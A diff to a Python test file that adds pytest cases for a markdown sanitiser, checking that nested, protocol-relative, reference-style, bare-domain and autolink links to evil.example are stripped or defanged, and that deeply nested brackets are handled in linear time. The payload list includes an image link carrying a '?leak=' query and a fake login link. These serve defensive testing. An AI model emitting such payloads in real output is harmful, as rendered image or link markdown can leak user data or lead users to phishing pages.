@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import time
+
+import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
@@ -51,3 +54,31 @@ def test_defang_leaves_no_renderable_link() -> None:
     assert defang("See ![i](http://a.example/x.png) [here](http://b.example) or http://c.example") == (
         "See  here or `http://c.example`"
     )
+
+
+BYPASSES = [
+    "![status [ok]](//evil.example/pixel.png?leak=x)",  # nested brackets, protocol-relative
+    "[portal [login]](//evil.example/login)",
+    "Read [the notice][g] now.\n[g]: //evil.example/notice",  # reference-style
+    "Mail a@evil.example or visit evil.example/phish today.",  # e-mail, bare domain
+    "<https://evil.example/auto>",  # autolink
+]
+
+
+@pytest.mark.parametrize("payload", BYPASSES, ids=["image", "link", "reference", "bare", "autolink"])
+def test_nested_relative_and_reference_links_are_stripped_too(payload: str) -> None:
+    text, _ = clean(f"Resolution 2270 was cited [1]. {payload}", HITS)
+    assert "evil" not in text and "](" not in text and "![" not in text and "cited [1]" in text
+    shown = defang(payload)
+    assert "](" not in shown and "![" not in shown and "]:" not in shown
+    # What is left of an address is code, which no renderer links or fetches.
+    for word in shown.split():
+        assert "evil.example" not in word or word.startswith("`"), shown
+
+
+def test_hostile_bracket_nesting_costs_linear_time() -> None:
+    text = "[" * 50_000 + "(" * 50_000
+    began = time.perf_counter()
+    clean(text, HITS)
+    defang(text)
+    assert time.perf_counter() - began < 5
